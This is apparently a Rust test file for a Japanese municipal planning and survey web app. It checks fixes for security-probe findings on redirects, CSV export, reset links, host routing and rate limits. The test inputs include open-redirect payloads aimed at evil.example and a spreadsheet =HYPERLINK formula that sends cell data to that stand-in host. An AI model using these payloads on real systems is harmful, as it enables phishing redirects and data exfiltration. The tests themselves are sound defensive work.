//! Findings of the outside security probe (issue #12), one test each; docs/RELIABILITY.md lists them.

use crate::support::*;
use crate::surveys::{id_in_location, nonce_in};
use axum::http::{StatusCode, header};

/// Redirect targets: only one `/` followed by neither `/` nor `\`, with no control or white-space
/// character — a TAB in `/\t/evil.example` used to pass and browsers followed it off-site; a
/// control character gave a 500 (and signing in set the session cookie first).
#[tokio::test]
async fn no_redirect_leaves_the_site_and_no_target_gives_a_500() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let mut c = t.client();
        for back in [
            "/%09/evil.example/x",
            "/%0a/evil.example",
            "//evil.example",
            "/%5Cevil.example",
            "/%01x",
            "/%7F",
        ] {
            let res = c.get(&format!("/prefs?lang=en&back={back}")).await;
            assert_eq!(res.status, StatusCode::SEE_OTHER, "back={back}");
            assert_eq!(res.location(), "/", "back={back}");
        }
        let res = c.get("/prefs?lang=ja&back=/plans%3Fview%3Dall").await;
        assert_eq!(res.location(), "/plans?view=all");
        for next in ["/\t/evil.example/x", "/\u{1}x", "/ /evil.example"] {
            let mut c = t.client();
            let res = c
                .post(
                    "/login",
                    &[
                        ("email", "citizen@demo.kyodo.jp"),
                        ("password", PASSWORD),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(res.status, StatusCode::SEE_OTHER, "next={next:?}");
            assert_eq!(res.location(), "/account", "next={next:?}");
        }
        let mut c = t.client();
        let res = c
            .post(
                "/login",
                &[
                    ("email", "citizen@demo.kyodo.jp"),
                    ("password", PASSWORD),
                    ("next", "/plans"),
                ],
            )
            .await;
        assert_eq!(res.location(), "/plans");
        t
    })
    .await;
}

/// The HQ creates and opens a public survey of one text question; returns its id and the
/// question's form field.
async fn open_text_survey(t: &TestApp, hq: &mut Client, title: &str) -> (i64, String) {
    let res = hq
        .post(
            "/hq/surveys",
            &[
                ("title", title),
                ("fiscal_year", "2026"),
                ("audience", "public"),
            ],
        )
        .await;
    let id = id_in_location(&res);
    let base = format!("/hq/surveys/{id}");
    let res = hq
        .post(
            &format!("{base}/questions"),
            &[("kind", "text"), ("label", "一言")],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let res = hq
        .post(&format!("{base}/status"), &[("status", "open")])
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let (q,): (i64,) = sqlx::query_as("SELECT id FROM survey_questions WHERE survey_id = $1")
        .bind(id)
        .fetch_one(&t.app.db)
        .await
        .unwrap();
    (id, format!("q{q}"))
}

/// A citizen's answer that is a spreadsheet formula reaches the responses CSV as text.
#[tokio::test]
async fn a_formula_in_an_answer_reaches_the_csv_as_text() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
        let (id, field) = open_text_survey(&t, &mut hq, "ご意見").await;
        let base = format!("/hq/surveys/{id}");
        let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
        let mut c = t.client();
        let nonce = nonce_in(&c.get(&format!("/surveys/{id}")).await.body);
        let res = c
            .submit(
                &format!("/surveys/{id}"),
                &[("nonce", &nonce), (&field, payload)],
            )
            .await;
        assert_eq!(res.status, StatusCode::OK, "{}", res.body);
        let csv = hq.get(&format!("{base}/responses.csv")).await;
        assert!(
            csv.body
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"詳細\"\")\""),
            "{}",
            csv.body
        );
        assert!(!csv.body.contains(",\"=HYPERLINK"), "{}", csv.body);
        t
    })
    .await;
}

/// Attachment names in any script, with spaces: RFC 6266 / 5987 (`%20`, not the form encoding's `+`).
#[tokio::test]
async fn attachment_names_keep_japanese_and_spaces() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let (node,): (i64,) = sqlx::query_as("SELECT id FROM plan_nodes WHERE seed_ref = 'S-1.3.3'")
            .fetch_one(&t.app.db)
            .await
            .unwrap();
        let (period,): (i64,) = sqlx::query_as(
            "SELECT p.id FROM reporting_periods p JOIN plan_nodes n ON n.plan_id = p.plan_id WHERE n.id = $1 AND p.fiscal_year = 2010",
        )
        .bind(node)
        .fetch_one(&t.app.db)
        .await
        .unwrap();
        let period = period.to_string();
        let url = format!("/plans/items/{node}/report");
        let mut staff = t.signed_in("staff@demo.kyodo.jp").await;
        let saved = staff
            .post(
                &url,
                &[
                    ("period", &period),
                    ("progress", "in_progress"),
                    ("rating", "A"),
                    ("did", "d"),
                    ("evaluation", "e"),
                    ("next_steps", "n"),
                ],
            )
            .await;
        assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
        let ok = staff
            .post_multipart(
                &format!("{url}/attachments"),
                &[("period", &period)],
                ("file", "会議 録 my report.pdf", b"%PDF-1.4 minutes"),
            )
            .await;
        assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
        let (att,): (i64,) = sqlx::query_as("SELECT id FROM report_attachments")
            .fetch_one(&t.app.db)
            .await
            .unwrap();
        let res = staff.get(&format!("/attachments/{att}")).await;
        let cd = res.headers.get(header::CONTENT_DISPOSITION).unwrap().to_str().unwrap();
        assert_eq!(
            cd,
            "attachment; filename=\"_____my_report.pdf\"; filename*=UTF-8''%E4%BC%9A%E8%AD%B0%20%E9%8C%B2%20my%20report.pdf"
        );
        t
    })
    .await;
}

/// A password reset ends every other reset link of the user (it used to leave them valid).
#[tokio::test]
async fn a_password_reset_ends_the_other_reset_links() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let org = t.demo_org().await;
        let mut c = t.client();
        for _ in 0..2 {
            let res = c
                .submit("/password/forgot", &[("email", "citizen@demo.kyodo.jp")])
                .await;
            assert_eq!(res.status, StatusCode::OK);
        }
        let links: Vec<String> = t
            .outbox(org)
            .await
            .into_iter()
            .filter(|m| m.to == "citizen@demo.kyodo.jp")
            .map(|m| token_in(&m.body))
            .collect();
        assert_eq!(links.len(), 2);
        let (newest, older) = (&links[0], &links[1]);
        let ok = c
            .submit(
                "/password/reset",
                &[("token", newest), ("password", "a-brand-new-password")],
            )
            .await;
        assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
        let stale = c
            .post(
                "/password/reset",
                &[("token", older), ("password", "an-attackers-password")],
            )
            .await;
        assert_eq!(
            stale.status,
            StatusCode::BAD_REQUEST,
            "the older link still worked"
        );
        c.login("citizen@demo.kyodo.jp", "a-brand-new-password")
            .await;
        t
    })
    .await;
}

/// Several organizations in one installation: an unknown host is served neither (it used to land
/// in the first); an organization given a host from the command line is served by the running
/// server without a restart; mail links use the organization's own address (organization B's reset
/// link used to open organization A).
#[tokio::test]
async fn each_organization_has_its_host_and_its_links() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let mut stranger = t.client();
        stranger.host = "unknown.example".into();
        let res = stranger.get("/plans").await;
        assert_eq!(res.status, StatusCode::MISDIRECTED_REQUEST, "{}", res.body);
        // A third organization, registered and given a host by another process.
        let cli = |args: &[&str]| {
            let out = std::process::Command::new(env!("CARGO_BIN_EXE_kyodo"))
                .args(args)
                .env("KYODO_DATABASE_URL", &t.app.config.database_url)
                .env("KYODO_DATA_DIR", &t.data_dir)
                .env("KYODO_CONFIG", t.data_dir.join("none.toml"))
                .env("KYODO_LOG", "warn")
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            String::from_utf8_lossy(&out.stdout).into_owned()
        };
        cli(&[
            "org",
            "add",
            "--code",
            "011002",
            "--name",
            "札幌市",
            "--name-en",
            "Sapporo",
        ]);
        cli(&[
            "org",
            "set-host",
            "--code",
            "011002",
            "--host",
            "Sapporo.Example",
        ]);
        assert!(cli(&["org", "list"]).contains("sapporo.example"));
        cli(&[
            "department",
            "add",
            "--org",
            "011002",
            "--code",
            "100",
            "--name",
            "総務局",
            "--name-en",
            "General Affairs",
            "--level",
            "bu",
        ]);
        cli(&[
            "department",
            "add",
            "--org",
            "011002",
            "--code",
            "110",
            "--name",
            "行政改革課",
            "--name-en",
            "Reform",
            "--level",
            "ka",
            "--parent",
            "100",
        ]);
        assert!(cli(&["department", "list", "--org", "011002"]).contains("  110  行政改革課"));
        // The running server reloads its organizations (at most once a second for unknown hosts).
        tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
        let mut sapporo = t.client();
        sapporo.host = "sapporo.example".into();
        let res = sapporo.get("/").await;
        assert_eq!(res.status, StatusCode::OK, "{}", res.body);
        assert!(
            res.body.contains("札幌市"),
            "served as the new organization"
        );
        // Mail links of the foreign organization open the foreign organization.
        let foreign_org = kyodo::accounts::organizations::by_code(&t.app.db, "130001")
            .await
            .unwrap()
            .unwrap()
            .id;
        let mut foreign = t.foreign_client();
        let res = foreign
            .submit("/password/forgot", &[("email", "admin@other.example")])
            .await;
        assert_eq!(res.status, StatusCode::OK);
        let mail = t
            .outbox(foreign_org)
            .await
            .into_iter()
            .find(|m| m.to == "admin@other.example")
            .expect("reset mail");
        assert!(
            mail.body
                .contains(&format!("http://{FOREIGN_HOST}/password/reset?token=")),
            "{}",
            mail.body
        );
        t
    })
    .await;
}

/// An anonymous survey holds one address to 20 answers a day, however many fresh cookies a script
/// brings (each fresh cookie used to count as a new browser); the results page says how the
/// survey was protected.
#[tokio::test]
async fn anonymous_answers_are_limited_per_address_and_the_results_say_so() {
    each_backend(|t| async move {
        let t = t.with_demo().await;
        let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
        let (id, field) = open_text_survey(&t, &mut hq, "一言").await;
        for n in 1..=21 {
            // A fresh client each time: no receipt cookie.
            let mut c = t.client();
            let nonce = nonce_in(&c.get(&format!("/surveys/{id}")).await.body);
            let res = c
                .submit(
                    &format!("/surveys/{id}"),
                    &[("nonce", &nonce), (&field, "スクリプト")],
                )
                .await;
            let want = if n <= 20 {
                StatusCode::OK
            } else {
                StatusCode::TOO_MANY_REQUESTS
            };
            assert_eq!(res.status, want, "answer {n}");
        }
        let (stored,): (i64,) =
            sqlx::query_as("SELECT COUNT(*) FROM survey_responses WHERE survey_id = $1")
                .bind(id)
                .fetch_one(&t.app.db)
                .await
                .unwrap();
        assert_eq!(stored, 20);
        let results = t.client().get(&format!("/surveys/{id}/results")).await;
        assert!(results.body.contains("1日20件まで"), "{}", results.body);
        t
    })
    .await;
}
